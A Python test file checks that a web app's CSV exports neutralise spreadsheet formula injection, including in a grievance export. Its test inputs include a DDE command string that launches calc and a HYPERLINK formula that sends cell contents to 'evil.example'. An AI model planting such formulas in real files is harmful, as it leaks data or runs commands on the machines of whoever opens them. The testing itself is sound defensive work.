"""Every CSV export disarms cells a spreadsheet would run as a formula."""

import csv
import io
import re
from pathlib import Path

from tests.web.helpers import post, sign_in
from webapp.domain.text import SafeCsvWriter, spreadsheet_safe

WEBAPP = Path(__file__).resolve().parents[2] / "webapp"


def test_formula_cells_are_quoted_and_numbers_kept():
    formulas = ('=HYPERLINK("http://x","y")', "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx")
    for dangerous in formulas:
        assert spreadsheet_safe(dangerous) == "'" + dangerous
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe("Sok Dara") == "Sok Dara"
    out = io.StringIO()
    SafeCsvWriter(out).writerows([["=1+1", 3]])
    assert out.getvalue().strip() == "'=1+1,3"


def test_no_export_writes_csv_without_the_safe_writer():
    for path in WEBAPP.rglob("*.py"):
        if path.name == "text.py":
            continue
        assert not re.search(r"csv\.(writer|DictWriter)\(", path.read_text()), path


def test_the_grievance_export_disarms_a_complainant_named_like_a_formula(client, session):
    sign_in(client, "vdc.charchhuk")
    form = {
        "category": "unsuccessful_application",
        "area": "17010101",
        "complainant_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "description": "A complaint",
    }
    assert post(client, "/grievances/new", form).status_code == 302
    exported = client.get("/grievances/?format=csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + form["complainant_name"] in cells
    assert not any(cell.startswith("=") for cell in cells)
